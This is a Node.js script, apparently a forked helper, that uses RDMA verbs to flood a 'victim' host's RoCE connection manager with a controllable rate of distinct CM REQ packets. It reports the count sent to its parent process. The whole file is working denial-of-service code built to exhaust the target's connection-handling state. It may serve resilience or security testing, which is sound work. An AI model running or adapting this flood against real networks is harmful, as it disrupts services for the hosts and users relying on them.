/**
 * Sends requests of the connection manager that are all different, from a process of its own:
 * fork('cm-flood.mjs', [own address, victim, UDP port, service id]); `send(n)` asks for n a second, 0 for none. Reports how many it has sent.
 */
import { setTimeout as sleep } from 'node:timers/promises';
import { GSI_QKEY, openDevice } from '@node-roce/verbs-api';
import { encodeCm, gidFromText, MAD_BYTES } from '@node-roce/wire';

const [, , address, victim, port, service] = process.argv;
const SLOTS = 256;
const device = await openDevice({ address, port: Number(port) });
const pd = await device.allocPd();
const cq = await device.createCq(1024);
const qp = await pd.createQp({ type: 'GSI', sendCq: cq, cap: { maxSendWr: SLOTS } });
await qp.activate({ qkey: GSI_QKEY });
const mr = await pd.registerMr(new Uint8Array(SLOTS * MAD_BYTES));
const ah = await pd.createAh({ gid: victim });

let rate = 0;
let sent = 0;
/** The end of the flood has still to be reported. */
let unreported = false;
process.on('message', (asked) => {
  rate = asked;
  unreported = rate === 0;
});
process.on('disconnect', () => process.exit());
process.send('ready');

const request = () =>
  encodeCm({
    name: 'REQ',
    transactionId: BigInt(sent),
    localCommId: (sent + 1) >>> 0,
    serviceId: BigInt(service),
    localCaGuid: BigInt(sent) * 0x9e37_79b9n,
    localQpn: (2 + sent) & 0xff_ffff,
    remoteCmResponseTimeout: 20,
    localCmResponseTimeout: 20,
    maxCmRetries: 15,
    pkey: 0xffff,
    pathMtu: 3,
    primaryLocalGid: gidFromText(address),
    primaryRemoteGid: gidFromText(victim),
    primaryAckTimeout: 19,
    privateData: Uint8Array.of(0, 0x40),
  });

for (let due = 0, last = performance.now(); ; ) {
  await sleep(1);
  const now = performance.now();
  due = Math.min(SLOTS, due + ((now - last) * rate) / 1000);
  last = now;
  for (; due >= 1 && qp.sendPending < SLOTS - 1; due--) {
    const offset = (sent % SLOTS) * MAD_BYTES;
    mr.bytes(offset, MAD_BYTES).set(request());
    qp.postSend({
      opcode: 'SEND',
      signaled: sent % 32 === 0,
      sgList: [{ mr, offset, length: MAD_BYTES }],
      ud: { ah, remoteQpn: 1, remoteQkey: GSI_QKEY },
    });
    sent++;
  }
  cq.poll(64);
  if (unreported) process.send(sent);
  unreported = false;
}
